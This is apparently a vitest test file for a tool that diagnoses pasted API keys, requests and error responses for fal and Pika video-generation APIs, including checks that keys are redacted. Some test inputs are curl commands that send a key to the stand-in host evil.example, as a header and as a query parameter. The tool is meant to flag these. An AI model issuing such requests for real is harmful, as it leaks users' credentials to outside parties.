import { describe, expect, it } from 'vitest';
import { diagnoseAnswer, diagnoseApi } from '../../../lib/advice/apiDoctor';
import type { ApiId } from '../../../lib/knowledge/providers';

const nowMs = Date.UTC(2026, 10, 18, 15, 0, 0);
const falKey = '1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed:0123456789abcdef0123456789abcdef';
const found = (text: string, assumed?: ApiId) => diagnoseApi(text, nowMs, assumed).findings.map(({ id }) => id);
const whole = (text: string, assumed?: ApiId) => JSON.stringify(diagnoseApi(text, nowMs, assumed).findings);

describe('a pasted key', () => {
  it.each([
    [falKey, 'fal', ['key-form']],
    ['dk_0123456789abcdef', 'devkey', ['key-form']],
    ['sk-pika-0123456789', 'pika-me', ['key-form']],
    ['pk-0123456789', 'pika-art', ['key-form']],
  ])('%s belongs to %s', (key, provider, ids) => {
    const diagnosis = diagnoseApi(key, nowMs);
    expect(diagnosis.provider).toBe(provider);
    expect(diagnosis.findings.map(({ id }) => id)).toEqual(ids);
    expect(diagnosis.probe).toMatchObject({ method: 'GET', url: expect.stringMatching(/^https:/) });
  });

  it('of another provider is wrong for the chosen one', () => {
    expect(found('dk_0123456789abcdef', 'fal')).toEqual(['bad-key']);
    expect(whole('dk_0123456789abcdef', 'fal')).toContain('Pika developer key');
  });

  it('without a form of its own leaves the choice to the user', () => {
    expect(found('abcdef0123456789abcdef')).toEqual(['unknown-key']);
    expect(found('abcdef0123456789abcdef', 'pika')).toEqual(['key-form']);
  });
});

describe('a pasted request', () => {
  const status = 'https://queue.fal.run/fal-ai/pika/requests/0f6b8c1e-4e1c-4b59-9a27-1a2b3c4d5e6f/status';

  it.each([
    ['right', `curl ${status} -H "Authorization: Key ${falKey}"`, ['key-form']],
    ['no key', `curl ${status}`, ['no-key']],
    ['Bearer at fal', `curl ${status} -H "Authorization: Bearer ${falKey}"`, ['wrong-scheme', 'key-form']],
    ['no word at fal', `curl ${status} -H "Authorization: ${falKey}"`, ['wrong-scheme', 'key-form']],
    ['X-API-KEY at fal', `curl ${status} -H "X-API-KEY: ${falKey}"`, ['wrong-header', 'key-form']],
    ['a key of Pika at fal', `curl ${status} -H "Authorization: Key dk_0123456789abcdef"`, ['bad-key']],
    ['a variable', `curl ${status} -H "Authorization: Key $FAL_KEY"`, ['placeholder']],
    [
      'plain http',
      `curl ${status.replace('https', 'http')} -H "Authorization: Key ${falKey}"`,
      ['not-https', 'key-form'],
    ],
    [
      'a sub-path',
      `curl ${status.replace('/requests', '/v2.2/text-to-video/requests')} -H "Authorization: Key ${falKey}"`,
      ['key-form', 'sub-path'],
    ],
    [
      'Bearer where DevKey belongs',
      'curl https://7i30hpv4bo9ud5mhianq.pika.art/developer/balance -H "Authorization: Bearer dk_0123456789"',
      ['wrong-scheme', 'key-form'],
    ],
    [
      'DevKey',
      "fetch('https://7i30hpv4bo9ud5mhianq.pika.art/developer/balance', { headers: { Authorization: 'DevKey dk_0123456789' } })",
      ['key-in-code', 'key-form'],
    ],
    [
      'Bearer at the Pika API',
      'curl https://api.dev.pika.art/billing/balance -H "Authorization: Bearer abcdef0123456789"',
      ['key-form'],
    ],
    [
      'X-API-Key at the Pika API',
      'curl https://api.dev.pika.art/billing/balance -H "X-API-Key: abcdef0123456789"',
      ['key-form'],
    ],
    [
      'Bearer at the partner API',
      'curl https://devapi.pika.art/videos/x -H "Authorization: Bearer abcdef0123456789"',
      ['wrong-header', 'key-form'],
    ],
    [
      'Token at the unconfirmed API',
      'curl https://api.pika.art/generations/x -H "Authorization: Token pk-0123456789"',
      ['unconfirmed', 'wrong-scheme', 'key-form'],
    ],
    [
      'Python',
      'requests.get("https://api.pika.me/v1/account/usage", headers={"Authorization": f"Bearer {os.environ[\'PIKA_API_KEY\']}"})',
      ['unconfirmed', 'placeholder'],
    ],
    ['a foreign host', `curl https://evil.example/v1 -H "Authorization: Key ${falKey}"`, ['unknown-host']],
    [
      'broken JSON',
      `curl -X POST https://queue.fal.run/fal-ai/pika/v2.2/text-to-video -H "Authorization: Key ${falKey}" -H "Content-Type: application/json" -d '{"prompt": "a cat",}'`,
      ['key-form', 'bad-json'],
    ],
    [
      'JSON without a type',
      `curl -X POST https://queue.fal.run/fal-ai/pika/v2.2/text-to-video -H "Authorization: Key ${falKey}" -d '{"prompt": "a cat"}'`,
      ['key-form', 'no-json-type'],
    ],
    [
      'an endpoint that fal lacks',
      `curl -X POST https://queue.fal.run/fal-ai/pika/v2/pikaswaps -H "Authorization: Key ${falKey}"`,
      ['key-form', 'no-endpoint'],
    ],
    [
      'GET to start',
      `curl -X GET https://queue.fal.run/fal-ai/pika/v2.2/text-to-video -H "Authorization: Key ${falKey}"`,
      ['key-form', 'wrong-method'],
    ],
  ])('%s', (_, text, ids) => {
    expect(found(text)).toEqual(ids);
  });
});

describe('a pasted error', () => {
  it.each([
    ['HTTP/1.1 401 Unauthorized\n\n{"detail":"Cannot access application"}', 'dead-key'],
    ['Request failed with status code 403', 'no-right'],
    ['404 Not Found {"detail":"Request not found"}', 'not-found'],
    ['HTTP/2 409\n\n{"error":{"code":"idempotency_conflict","message":"used"}}', 'conflict'],
    ['HTTP/1.1 413 Payload Too Large', 'too-large'],
    ['HTTP/1.1 415 Unsupported Media Type', 'wrong-type'],
    ['Error: 500 Internal Server Error', 'server-error'],
    ['HTTP/1.1 503 Service Unavailable', 'server-error'],
    ['HTTP/1.1 402 Payment Required\n\n{"error":{"code":"insufficient_balance","message":"no"}}', 'no-credits'],
    ['HTTP/1.1 403 Forbidden\n\n{"detail":"User is locked. Reason: Exhausted balance."}', 'no-credits'],
    [
      'HTTP/1.1 422 x\n\n{"detail":[{"loc":["body","prompt"],"msg":"flagged by a content checker","type":"content_policy_violation"}]}',
      'moderation',
    ],
    ['{"id":"media_x","status":"failed","error":{"code":"content_moderation","message":"no"}}', 'moderation'],
    ['{"id":"media_x","status":"failed","error":{"code":"provider_timeout","message":"no"}}', 'server-error'],
    ['{"some":"thing"}', 'unclear'],
  ])('%s is %s', (text, id) => {
    expect(found(text)).toEqual([id]);
  });

  it('names the field of a 422', () => {
    expect(
      whole(
        'HTTP/1.1 422 x\n\n{"detail":[{"loc":["body","duration"],"msg":"unexpected value; permitted: 5, 10","type":"value_error.const"}]}',
      ),
    ).toContain('duration (unexpected value; permitted: 5, 10)');
    expect(
      whole('422 {"error":"Validation failed","details":[{"field":"promptText","message":"promptText is required"}]}'),
    ).toContain('promptText (promptText is required)');
    expect(
      whole('422 {"error":{"code":"validation_error","message":"prompt is required","field":"prompt"}}'),
    ).toContain('prompt (prompt is required)');
    expect(whole('422 {"error":{"code":"invalid_input","message":"image: field required"}}')).toContain(
      'image (field required)',
    );
  });

  it('names the wait of a 429', () => {
    expect(whole('HTTP/1.1 429 Too Many Requests\nRetry-After: 30\n\n{"message":"slow down"}')).toContain(
      'Wait 30 seconds',
    );
    expect(whole('HTTP/1.1 429 Too Many Requests\nretry-after: Wed, 18 Nov 2026 15:01:00 GMT')).toContain(
      'Wait 60 seconds',
    );
    expect(whole('HTTP/1.1 429 Too Many Requests')).toContain('2 seconds, then 4');
    expect(whole('429 {"error":{"code":"cycle_limit_exceeded","message":"x"}}')).toContain('billing cycle');
  });

  it('shows what the server said', () => {
    expect(whole('HTTP/1.1 409 x\n\n{"message":"The job has no content yet."}')).toContain(
      'The job has no content yet.',
    );
  });

  it('is told with the header form of the provider whose address is in it', () => {
    expect(whole('GET https://queue.fal.run/fal-ai/pika/requests/x/status\nHTTP/1.1 401 Unauthorized')).toContain(
      'Authorization: Key <key>',
    );
  });
});

/** Answers as people paste them in public bug reports; ids and words are invented, the forms are real. */
describe('an answer as people paste it', () => {
  const envelope = (rest: object) => JSON.stringify({ request_id: 'r-1', gateway_request_id: 'r-1', ...rest });

  it.each<[string, string, string]>([
    [
      'fal, no money',
      'HTTP/2 403\n\n{"detail":"User is locked. Reason: Exhausted balance. Top up your balance."}',
      'no-credits',
    ],
    ['fal, top up', '403 {"detail":"User is locked. Reason: TOP_UP"}', 'no-credits'],
    ['fal, locked by its staff', 'HTTP/2 403\n\n{"detail":"User is locked. Reason: Admin lock."}', 'locked'],
    [
      'the same as a Python client prints it',
      'fal_client.client.FalClientHTTPError: User is locked. Reason: Exhausted balance. Top up your balance at the dashboard.',
      'no-credits',
    ],
    [
      'the same as a trace ends',
      'Traceback (most recent call last):\n  File "make.py", line 12, in <module>\nhttpx.HTTPStatusError: Client error \'403 Forbidden\'\nUser is locked. Reason: Admin lock.',
      'locked',
    ],
    [
      'the same as a dict',
      "{'detail': 'User is locked. Reason: Exhausted balance.', 'extra': None, 'ok': False}",
      'no-credits',
    ],
    ['a JavaScript error', 'ApiError: Forbidden\n    at async responseHandler (file:///app/x.js:1:2)', 'no-right'],
    [
      'a webhook whose result did not fit',
      envelope({ status: 'OK', payload: null, payload_error: 'Response payload is not JSON serializable.' }),
      'no-payload',
    ],
    [
      'a webhook whose inner error is nearer',
      envelope({
        status: 'ERROR',
        error: 'Invalid status code: 422',
        payload: {
          detail: [
            { loc: ['body', 'prompt'], msg: 'The content could not be processed.', type: 'content_policy_violation' },
          ],
        },
      }),
      'moderation',
    ],
    [
      'sound that a filter refused',
      '{"error":{"code":"OutputAudioSensitiveContentDetected","message":"try again"}}',
      'moderation',
    ],
    [
      'content under a general type',
      'HTTP/1.1 422 x\n\n{"detail":[{"loc":["body","prompt"],"msg":"Your request was rejected due to safety violations.","type":"value_error"}]}',
      'moderation',
    ],
    [
      'a success that is none',
      'HTTP/1.1 200 OK\n\n{"code":0,"message":"SUCCEED","data":{"task_id":"t","task_status":"failed","task_status_msg":""}}',
      'job-failed',
    ],
    [
      'a success that is none, with its reason',
      '200 {"code":0,"message":"SUCCEED","data":{"task_status":"failed","task_status_msg":"Failure to pass the risk control system"}}',
      'moderation',
    ],
    [
      'a job that is done',
      'HTTP/1.1 200 OK\n\n{"code":0,"message":"SUCCEED","data":{"task_status":"succeed"}}',
      'accepted',
    ],
    ['a job that waits', 'HTTP/1.1 200 OK\n\n{"status":"IN_QUEUE","queue_position":3}', 'accepted'],
    ['a limit in words', '{"error":{"message":"Rate limit reached for requests"}}', 'limit'],
    ['a key under 403', 'HTTP/1.1 403 Forbidden\n\n{"message":"Invalid API key"}', 'dead-key'],
    [
      'a downstream fault under 422',
      '422 {"detail":[{"loc":["body"],"msg":"Downstream service error","type":"downstream_service_error"}]}',
      'server-error',
    ],
  ])('%s', (_what, text, id) => {
    expect(found(text)).toEqual([id]);
  });

  it('hides any unbroken word of 16 and more with a digit in it', () => {
    const said = whole(
      'HTTP/1.1 400 x\n\n{"message":"unknown token zq1zzzzzzzzzzzzz for a-plain-long-word-of-letters"}',
    );
    expect(said).not.toContain('zq1zzzzzzzzzzzzz');
    expect(said).toContain('a-plain-long-word-of-letters');
  });
});

describe('an input for fal, by the version of its endpoint', () => {
  const curl = (path: string, input: object) =>
    `curl -X POST https://queue.fal.run/fal-ai/pika/${path} -H "Authorization: Key $FAL_KEY" -H "Content-Type: application/json" -d '${JSON.stringify(input)}'`;

  it('names each field that does not fit, and what it should be', () => {
    const said = whole(
      curl('v2.2/image-to-video', {
        prompt: 'a cat',
        image: 'https://x.example/a.png',
        duration: 7,
        resolution: '480p',
      }),
    );
    expect(said).toContain('image is called image_url here');
    expect(said).toContain('duration is one of 5, 10, not 7');
    expect(said).toContain('resolution is one of 720p, 1080p, not \\"480p\\"');
    expect(said).not.toContain('image_url is missing');
  });

  it.each([
    [
      'JavaScript',
      'await fal.subscribe("fal-ai/pika/v2.2/text-to-video", { input: { prompt, aspectRatio: "16:9", duration: 8 }, logs: true })',
      ['aspectRatio is called aspect_ratio here', 'duration is one of 5, 10, not 8'],
    ],
    [
      'Python',
      "fal_client.subscribe('fal-ai/pika/v1.5/pikaffects', arguments={'image_url': url, 'pikaffect': 'Vanish'})",
      ['pikaffect is one of Cake-ify'],
    ],
    ['a missing field', curl('v2/pikadditions', { image_url: 'https://x.example/a.png' }), ['video_url is missing']],
  ])('also in %s', (_what, text, parts) => {
    for (const part of parts) expect(whole(text)).toContain(part);
  });

  it.each([
    [
      'v2.2',
      curl('v2.2/text-to-video', {
        prompt: 'a cat',
        duration: '10',
        resolution: '1080p',
        aspect_ratio: '4:5',
        seed: 7,
      }),
    ],
    ['v2.1, which takes any number of seconds', curl('v2.1/text-to-video', { prompt: 'a cat', duration: 7 })],
    [
      'a nested list',
      curl('v2.2/pikaframes', {
        image_urls: ['https://x.example/a', 'https://x.example/b'],
        transitions: [{ duration: 3, prompt: 'x' }],
      }),
    ],
    ['an endpoint whose input nobody wrote down', curl('v2.5/text-to-video', { anything: 1 })],
  ])('is fine for %s', (_what, text) => {
    expect(found(text)).not.toContain('wrong-input');
  });
});

describe('a program', () => {
  const variable = (name: string) => `\`Key \${process.env.${name}}\``;
  const call =
    "fetch('https://queue.fal.run/fal-ai/pika/v2.2/text-to-video', { method: 'POST', headers: { Authorization: 'Key KEY' } })";
  const withKey = call.replace('KEY', falKey);

  it.each([
    ['a click handler', `document.querySelector('button').addEventListener('click', () => ${withKey})`],
    ['a component', `'use client';\nexport function Make() { const [url, setUrl] = useState(''); ${withKey} }`],
    ['a public variable', call.replace("'Key KEY'", variable('NEXT_PUBLIC_FAL_KEY'))],
    [
      'its own client in a page',
      `<script type="module">fal.config({ credentials: "${falKey}" }); fal.subscribe("fal-ai/pika/v2.2/text-to-video")</script>`,
    ],
  ])('that gives its key to whoever opens the page: %s', (_what, text) => {
    expect(found(text)).toContain('key-in-browser');
  });

  it('with a literal key may be one that a browser runs; one with a variable of a server is not', () => {
    expect(found(withKey)).toContain('key-in-code');
    const server = found(call.replace("'Key KEY'", variable('FAL_KEY')));
    expect(server).not.toContain('key-in-code');
    expect(server).not.toContain('key-in-browser');
  });

  it.each([
    'npm install @pika/agent-api',
    "import { Pika } from '@pika/agent-api';",
    'const pika = require("pika-api")',
    'npm error code E404\nnpm error 404 Not Found - GET https://packages.example/@pika%2fagent-api - Not found',
    '{"dependencies":{"pikalabs":"^1.0.0"}}',
    'pnpm add pika-labs',
  ])('that wants a package which does not exist: %s', (text) => {
    expect(found(text)).toContain('no-package');
  });

  it('that only speaks of it wants none', () => {
    expect(found('HTTP/1.1 401 x\n\n{"message":"pika-api key refused"}')).not.toContain('no-package');
  });
});

describe('a probe', () => {
  it('has no key in it and starts nothing', () => {
    for (const text of [falKey, `curl https://queue.fal.run/fal-ai/pika -H "Authorization: Key ${falKey}"`]) {
      const { probe } = diagnoseApi(text, nowMs);
      expect(probe?.method).toBe('GET');
      expect(JSON.stringify(probe)).not.toContain('0123456789abcdef');
    }
  });

  it('is read: 200 and 404 speak for the key, 401 against it, no answer for nothing', () => {
    const read = (status: number) =>
      diagnoseAnswer({ status, headers: {}, body: '{"detail":"x"}' }, 'fal', nowMs).findings[0]?.id;
    expect([read(200), read(404), read(401), read(403), read(0), read(503)]).toEqual([
      'key-taken',
      'key-taken',
      'dead-key',
      'no-right',
      'no-answer',
      'server-error',
    ]);
  });
});

describe('secrets', () => {
  const secrets = [
    falKey,
    'dk_SECRETSECRET99',
    'sk-pika-SECRETSECRET99',
    'pk-SECRETSECRET99',
    'whsec_SECRETSECRET99',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJub2JvZHkifQ.SECRETSECRET99',
  ];
  const forms = [
    (key: string) => key,
    (key: string) => `curl https://queue.fal.run/fal-ai/pika/requests/x/status -H "Authorization: Key ${key}"`,
    (key: string) => `curl https://evil.example/?api_key=${key} -H "X-API-KEY: ${key}"`,
    (key: string) => `HTTP/1.1 401 x\n\n{"message":"Invalid key ${key}"}`,
    (key: string) => `HTTP/1.1 422 x\n\n{"detail":[{"loc":["body","key"],"msg":"bad value ${key}"}]}`,
    (key: string) => `{"error":{"code":"unauthorized","message":"Bearer ${key} was refused"}}`,
    (key: string) => `something odd with ${key} in it`,
  ];

  it('are in nothing that the doctor says', () => {
    for (const secret of secrets) {
      for (const form of forms) {
        for (const assumed of [undefined, 'fal', 'pika', 'devkey'] as const) {
          const said = JSON.stringify(diagnoseApi(form(secret), nowMs, assumed));
          expect(said).not.toContain(secret);
          expect(said).not.toMatch(/SECRETSECRET|0123456789abcdef/);
        }
      }
    }
  });
});

describe('anything else', () => {
  it('is said to be nothing that the doctor reads', () => {
    expect(found('')).toEqual(['nothing']);
    expect(found('why does it not work?')).toEqual(['nothing']);
    expect(found('x'.repeat(60_000))).toEqual(['nothing']);
  });
});
